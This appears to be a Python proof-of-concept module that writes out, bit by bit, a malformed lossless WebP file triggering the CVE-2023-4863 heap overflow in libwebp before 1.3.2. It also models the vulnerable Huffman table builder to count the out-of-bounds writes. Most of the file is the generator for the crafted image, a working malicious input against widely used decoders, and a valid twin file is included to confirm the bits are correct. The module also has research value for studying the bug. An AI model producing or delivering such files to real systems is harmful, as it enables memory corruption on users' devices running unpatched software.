"""A lossless WebP of the CVE-2023-4863 shape, written bit by bit, and a model of the bug it targets.

libwebp before 1.3.2 allocated one buffer for a VP8L image's five Huffman tables
(green, red, blue, alpha, distance), sized for the largest tables that *valid*
codes can need (``kTableSize``: 654 + 3 x 630 + 410 entries without a colour cache),
and filled the tables before checking that a code was complete. This file's first
four codes are valid and need the most entries they can; the fifth is incomplete
(it never closes its tree), and 1.2.2's table builder writes its second-level tables
past the end of the buffer: the heap overflow exploited in the wild. Patched
decoders reject the fifth code. ``valid=True`` gives the same file with a complete
fifth code: decodable (a 16x16 transparent black square), which shows the bits
are written as intended.

Example::

    >>> data = crafted()
    >>> data[:4], data[8:16]
    (b'RIFF', b'WEBPVP8L')
    >>> overflow(CODE_LENGTH_COUNTS)
    122
"""

from __future__ import annotations

import struct

MAX_LENGTH = 15
ROOT_BITS = 8
#: libwebp's kTableSize[0] (no colour cache): the entries allocated for one group of five tables.
TABLE_SIZE = 630 * 3 + 410 + 654
#: Code length counts per length 0..15 for each of the five codes. The first four are complete
#: codes with the largest tables their alphabets allow (654, 630, 630, 630 entries; found by
#: search, as libwebp's comments state them); the fifth is incomplete, 38 of 40 symbols used.
CODE_LENGTH_COUNTS = (
    (0, 1, 1, 0, 0, 0, 0, 0, 0, 43, 125, 73, 33, 1, 1, 2),
    (0, 1, 1, 0, 0, 0, 0, 0, 0, 43, 141, 49, 17, 1, 1, 2),
    (0, 1, 1, 0, 0, 0, 0, 0, 0, 43, 141, 49, 17, 1, 1, 2),
    (0, 1, 1, 0, 0, 0, 0, 0, 0, 43, 141, 49, 17, 1, 1, 2),
    (0, 1, 1, 0, 1, 0, 1, 0, 1, 13, 7, 5, 1, 1, 1, 5),
)
#: A complete fifth code with the largest table (410 entries): the valid twin.
VALID_DISTANCE_COUNTS = (0, 1, 1, 1, 1, 1, 0, 0, 0, 7, 13, 9, 1, 0, 3, 2)
ALPHABETS = (256 + 24, 256, 256, 256, 40)
_CODE_LENGTH_ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)


class _Bits:
    """VP8L's bit order: values written least significant bit first."""

    def __init__(self) -> None:
        self.value = 0
        self.count = 0

    def put(self, value: int, n: int) -> None:
        self.value |= (value & ((1 << n) - 1)) << self.count
        self.count += n

    def put_code(self, code: int, n: int) -> None:
        # Huffman codes are read first bit first: their bits go in reversed.
        self.put(int(f"{code:0{n}b}"[::-1], 2), n)

    def bytes(self) -> bytes:
        return self.value.to_bytes((self.count + 7) // 8, "little")


def _lengths(counts: tuple[int, ...], alphabet: int) -> list[int]:
    lengths = [length for length, n in enumerate(counts) if length for _ in range(n)]
    return lengths + [0] * (alphabet - len(lengths))


def crafted(valid: bool = False, width: int = 16, height: int = 16) -> bytes:
    """The RIFF/WEBP/VP8L file: header, no transforms, no colour cache, one group of five codes, pixels."""
    bits = _Bits()
    bits.put(0x2F, 8)  # VP8L signature
    bits.put(width - 1, 14)
    bits.put(height - 1, 14)
    bits.put(1, 1)  # alpha used
    bits.put(0, 3)  # version
    bits.put(0, 1)  # no transform
    bits.put(0, 1)  # no colour cache
    bits.put(0, 1)  # no meta Huffman codes: one group
    counts = (*CODE_LENGTH_COUNTS[:4], VALID_DISTANCE_COUNTS if valid else CODE_LENGTH_COUNTS[4])
    for code_counts, alphabet in zip(counts, ALPHABETS, strict=True):
        bits.put(0, 1)  # a normal (not simple) code
        bits.put(19 - 4, 4)  # all 19 code-length-code lengths follow
        for symbol in _CODE_LENGTH_ORDER:
            bits.put(4 if symbol < 16 else 0, 3)  # literal lengths 0-15: 4 bits each (code = the length)
        bits.put(0, 1)  # code lengths for the whole alphabet
        for length in _lengths(code_counts, alphabet):
            bits.put_code(length, 4)
    # Pixels: symbol 0 of each code has the one-bit code 0, so zero bits are black transparent literals.
    bits.put(0, 4 * width * height)
    payload = bits.bytes() + bytes(64)
    payload += b"\0" * (len(payload) % 2)
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def _next_table_bits(count: list[int], length: int) -> int:
    left = 1 << (length - ROOT_BITS)
    while length < MAX_LENGTH:
        left -= count[length]
        if left <= 0:
            break
        length += 1
        left <<= 1
    return length - ROOT_BITS


def _next_key(key: int, length: int) -> int:
    step = 1 << (length - 1)
    while key & step:
        step >>= 1
    return (key & (step - 1)) + step if step else 0


def table_writes(counts: tuple[int, ...]) -> tuple[int, int]:
    """libwebp 1.2.2's BuildHuffmanTable on these length counts: (entries written from the table's
    start, entries it returns as its size: 0 when it rejects the code, after writing)."""
    count = list(counts)
    symbols = sum(count[1:])
    if symbols == 1:
        return 1 << ROOT_BITS, 1 << ROOT_BITS
    written, table, table_size, low, key = 1 << ROOT_BITS, 0, 1 << ROOT_BITS, -1, 0
    total, nodes, open_ = 1 << ROOT_BITS, 1, 1
    for length in range(1, MAX_LENGTH + 1):
        open_ <<= 1
        nodes += open_
        open_ -= count[length]
        if open_ < 0:
            return written, 0
        while count[length] > 0:
            if length > ROOT_BITS and (key & ((1 << ROOT_BITS) - 1)) != low:
                table += table_size
                table_size = 1 << _next_table_bits(count, length)
                total += table_size
                low = key & ((1 << ROOT_BITS) - 1)
                written = max(written, table + table_size)
            key = _next_key(key, length)
            count[length] -= 1
    return written, total if nodes == 2 * symbols - 1 else 0


def overflow(counts_per_code: tuple[tuple[int, ...], ...]) -> int:
    """Entries 1.2.2 writes past its TABLE_SIZE buffer for these five codes (0: none)."""
    start = 0
    for counts in counts_per_code:
        written, size = table_writes(counts)
        end = start + written
        if size == 0:
            return max(0, end - TABLE_SIZE)
        start += size
    return max(0, start - TABLE_SIZE)
